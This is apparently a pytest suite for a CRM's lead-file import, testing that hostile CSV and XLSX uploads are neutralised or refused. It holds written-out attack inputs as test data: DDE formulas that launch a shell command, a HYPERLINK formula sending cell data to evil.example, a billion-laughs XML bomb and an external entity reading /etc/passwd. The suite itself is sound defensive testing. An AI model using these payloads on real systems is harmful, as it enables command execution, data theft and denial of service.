"""Hostile lead files: formulas stay inert, XML bombs and oversized or malformed files are refused, nothing imported."""
import csv
import io
import json
import random
import resource
import time
import zipfile

import openpyxl
import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from crm_shared.db import outbox
from leads import imports
from leads.db import leads
from leads.db_import_queue import lead_import_queue
from leads.db_search import lead_imports
from leads.import_runner import ImportRunner

IMPORTS = "/api/v1/leads/imports"
EXPORT = "/api/v1/leads/export"
HEADER = ("company", "contact", "phone", "source", "notes", "tags")
COLUMNS = ",".join(HEADER)
MAPPING = {"company": "company", "contact": "contact_name", "phone": "phone", "source": "channel", "notes": "notes",
           "tags": "tags"}
# What spreadsheet programs run when a cell starts with it: a formula, or a DDE command reaching the shell.
FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"]
BIG_ENOUGH_TO_HURT = 200 * 1024 * 1024  # bytes of memory; a billion laughs expanded would take gigabytes


def csv_file(rows) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HEADER)
    writer.writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_file(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(HEADER))
    for row in rows:
        sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def replace_member(data: bytes, member: str, content: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    assert member in source.namelist(), f"the workbook has no {member}"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, content if item.filename == member else source.read(item.filename))
    return buffer.getvalue()


def with_shared_strings(data: bytes, shared_strings: bytes) -> bytes:
    """The workbook with its first cell taken from a sharedStrings.xml part, as Excel writes text."""
    source = zipfile.ZipFile(io.BytesIO(data))
    parts = {name: source.read(name) for name in source.namelist()}
    parts["xl/sharedStrings.xml"] = shared_strings
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>'))
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", (
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        b'Target="sharedStrings.xml" Id="rId9" /></Relationships>'))
    sheet = parts["xl/worksheets/sheet1.xml"]
    start = sheet.index(b'<c r="A1"')
    end = sheet.index(b"</c>", start) + len(b"</c>")
    parts["xl/worksheets/sheet1.xml"] = sheet[:start] + b'<c r="A1" t="s"><v>0</v></c>' + sheet[end:]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return buffer.getvalue()


def upload(client, headers, data: bytes, name: str, dry_run: bool = False):
    form = {"file": (io.BytesIO(data), name), "options": json.dumps({"mapping": MAPPING, "dry_run": dry_run})}
    return client.post(IMPORTS, data=form, headers=headers, content_type="multipart/form-data")


def run_import(client, headers, data: bytes, name: str) -> dict:
    response = upload(client, headers, data, name)
    assert response.status_code == 202, response.json
    ImportRunner(client.application.extensions["crm.uow_factory"]).run_all()
    return client.get(response.headers["Location"], headers=headers).json


def counts(uow_factory) -> dict:
    with uow_factory() as uow:
        return {table.name: uow.session.execute(select(func.count()).select_from(table)).scalar_one()
                for table in (leads, lead_imports, lead_import_queue, outbox)}


def stored_leads(uow_factory) -> dict[str, dict]:
    with uow_factory() as uow:
        rows = uow.session.execute(select(leads.c.company, leads.c.contact_name, leads.c.notes, leads.c.tags)).all()
    return {row.company: row._asdict() for row in rows}


def assert_refused(client, headers, uow_factory, data: bytes, name: str, code: str, status: int = 422) -> str:
    """Refused the same way on a dry run and a real run, with a message to act on, and nothing written."""
    before = counts(uow_factory)
    messages = set()
    for dry_run in (True, False):
        response = upload(client, headers, data, name, dry_run=dry_run)
        assert response.status_code == status, response.json
        assert response.json["code"] == code, response.json
        assert response.json["message"].strip()
        messages.add(response.json["message"])
    assert counts(uow_factory) == before
    return messages.pop()


# --- formulas ---------------------------------------------------------------------------------------------

def formula_rows():
    return [(f"{formula} Ltd {number}", formula, "138 0013 800" + str(number), "web", formula, formula.replace(",", ""))
            for number, formula in enumerate(FORMULAS)]


@pytest.mark.parametrize("name, make", [("formulas.csv", csv_file), ("formulas.xlsx", xlsx_file)])
def test_cells_that_look_like_formulas_are_stored_as_plain_text(client, manager, uow_factory, name, make):
    rows = formula_rows()
    data = make(rows)
    if make is xlsx_file:
        # openpyxl writes a value starting with "=" as a formula; store these as text, as a person typing
        # '=... in Excel would, so the file carries the text itself.
        workbook = load_workbook(io.BytesIO(data))
        for row in workbook.active.iter_rows(min_row=2):
            for cell in row:
                cell.data_type = "s"
        buffer = io.BytesIO()
        workbook.save(buffer)
        data = buffer.getvalue()

    job = run_import(client, manager, data, name)

    assert job["status"] == "completed" and job["created"] == len(rows), job
    stored = stored_leads(uow_factory)
    for company, formula, *_rest in rows:
        assert stored[company]["contact_name"] == formula
        assert stored[company]["notes"] == formula


def test_a_real_formula_in_an_xlsx_cell_is_never_imported_as_its_source(client, manager, uow_factory):
    # A formula cell without a value computed by a spreadsheet program reads as empty, not as "=...".
    data = xlsx_file([("=cmd|' /C calc'!A0", "Wang Fang", "", "web", "=1+1", "")])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" in archive.read("xl/worksheets/sheet1.xml"), "the file holds no formula cell"

    response = upload(client, manager, data, "formula.xlsx", dry_run=True)

    assert response.status_code == 200, response.json
    assert response.json["valid"] == 0 and response.json["invalid_rows"] == 1
    assert {(error["field"], error["reason"]) for error in response.json["errors"]} == {
        ("company", "Required; the cell is empty.")}


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_imported_formulas_are_exported_neutralised(client, manager, file_format):
    rows = formula_rows()
    run_import(client, manager, csv_file(rows), "formulas.csv")

    response = client.get(f"{EXPORT}?format={file_format}", headers=manager)

    assert response.status_code == 200
    if file_format == "csv":
        exported = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    else:
        sheet = load_workbook(io.BytesIO(response.data), read_only=True).worksheets[0]
        header, *values = [list(row) for row in sheet.iter_rows(values_only=True)]
        exported = [dict(zip(header, row)) for row in values]
    by_contact = {row["contact_name"]: row for row in exported}
    assert len(by_contact) == len(rows)
    for company, formula, *_rest in rows:
        row = by_contact["'" + formula]
        assert row["company"] == "'" + company
        assert row["notes"] == "'" + formula
    if file_format == "xlsx":
        with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
            sheet_xml = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


# --- XML bombs and external entities -------------------------------------------------------------------------

def billion_laughs(root: bytes) -> bytes:
    """Ten levels of ten: 10^9 copies of "lol" if a parser expands the entities."""
    entities = [b'<!ENTITY lol0 "lol">']
    for level in range(1, 10):
        entities.append(b'<!ENTITY lol%d "%s">' % (level, b"".join(b"&lol%d;" % (level - 1) for _ in range(10))))
    return b'<?xml version="1.0"?><!DOCTYPE bomb [' + b"".join(entities) + b"]>" + root.replace(b"BOMB", b"&lol9;")


SHEET = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
         b'<row r="1"><c r="A1" t="inlineStr"><is><t>BOMB</t></is></c></row></sheetData></worksheet>')
SHARED_STRINGS = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
                  b'<si><t>BOMB</t></si></sst>')


@pytest.mark.parametrize("member, root", [
    ("xl/sharedStrings.xml", SHARED_STRINGS),
    ("xl/worksheets/sheet1.xml", SHEET),
])
def test_an_xml_entity_bomb_is_refused_quickly_without_expanding(client, manager, uow_factory, member, root):
    workbook = xlsx_file([("Acme", "Wang Fang", "", "web", "", "")])
    if member == "xl/sharedStrings.xml":
        data = with_shared_strings(workbook, billion_laughs(root))
    else:
        data = replace_member(workbook, member, billion_laughs(root))
    memory_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
    started = time.monotonic()

    message = assert_refused(client, manager, uow_factory, data, "bomb.xlsx", "unsafe_file")

    assert time.monotonic() - started < 10
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024 - memory_before < BIG_ENOUGH_TO_HURT
    assert "entity" in message.lower()


def test_an_external_entity_is_refused_and_never_read(client, manager, uow_factory):
    external = (b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
                + SHARED_STRINGS.replace(b"BOMB", b"&secret;"))
    data = with_shared_strings(xlsx_file([("Acme", "Wang Fang", "", "web", "", "")]), external)

    message = assert_refused(client, manager, uow_factory, data, "xxe.xlsx", "unsafe_file")

    assert "root:" not in message


def test_xlsx_import_is_off_if_openpyxl_would_parse_without_defusedxml(client, manager, uow_factory, monkeypatch):
    monkeypatch.setattr(openpyxl, "DEFUSEDXML", False)

    message = assert_refused(client, manager, uow_factory, xlsx_file([("Acme", "Wang Fang", "", "web", "", "")]),
                             "leads.xlsx", "unsafe_file")

    assert "defusedxml" in message


# --- size ----------------------------------------------------------------------------------------------------

def test_a_file_over_the_import_limit_is_refused_naming_the_limit(client, manager, uow_factory):
    row = b"Acme,Wang Fang,138 0013 8000,web,,\n"
    data = b"company,contact,phone,source,notes,tags\n" + row * (imports.MAX_FILE_BYTES // len(row) + 1)
    assert imports.MAX_FILE_BYTES < len(data) < imports.MAX_FILE_BYTES + 1024

    message = assert_refused(client, manager, uow_factory, data, "big.csv", "file_too_large", status=413)

    assert f"{imports.MAX_FILE_BYTES // (1024 * 1024)} MB" in message


def test_a_request_far_over_the_limit_is_refused_before_it_is_read(client, manager, uow_factory):
    data = b"x" * (imports.MAX_FILE_BYTES + 2 * 1024 * 1024)

    message = assert_refused(client, manager, uow_factory, data, "huge.csv", "payload_too_large", status=413)

    assert f"{imports.MAX_FILE_BYTES // (1024 * 1024) + 1} MB" in message


# --- malformed files ----------------------------------------------------------------------------------------

def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("report.docx.xml", "<w:document/>")
    return buffer.getvalue()


def _xlsx_without_its_sheet() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(xlsx_file([("Acme", "Wang Fang", "", "web", "", "")])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, source.read(item.filename))
    return buffer.getvalue()


def _truncated_xlsx() -> bytes:
    data = xlsx_file([("Acme", "Wang Fang", "", "web", "", "")])
    return data[: len(data) // 2]


def _binary_garbage() -> bytes:
    generator = random.Random(20261127)
    return bytes(generator.randrange(1, 256) for _ in range(4096))


@pytest.mark.parametrize("name, make", [
    ("leads.xlsx", _plain_zip),
    ("leads.csv", _plain_zip),  # a zip under a CSV name is still read as a workbook, and refused
    ("leads.xlsx", _xlsx_without_its_sheet),
    ("leads.xlsx", _truncated_xlsx),
    ("leads.csv", _binary_garbage),
    ("leads.csv", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64)),
    ("leads.csv", lambda: f"{COLUMNS}\nAcme,Wang Fang,1,web,,\n".encode("utf-16")),
    ("leads.csv", lambda: f"{COLUMNS}\nCafé Renée,José,1,web,,\n".encode("latin-1")),
    ("leads.csv", lambda: b"\xef\xbb\xbf" + f"{COLUMNS}\nAcme,Wang \xff\xfe,1,web,,\n".encode("latin-1")),
    # A quote left open would swallow every later row into one cell.
    ("leads.csv", lambda: f'{COLUMNS}\n"Acme,Wang Fang,1,web,,\nBeta,Li Na,2,web,,\n'.encode()),
])
def test_a_malformed_file_is_refused_with_a_reason_and_nothing_imported(client, manager, uow_factory, name, make):
    message = assert_refused(client, manager, uow_factory, make(), name, "malformed_file")

    assert len(message) > 20
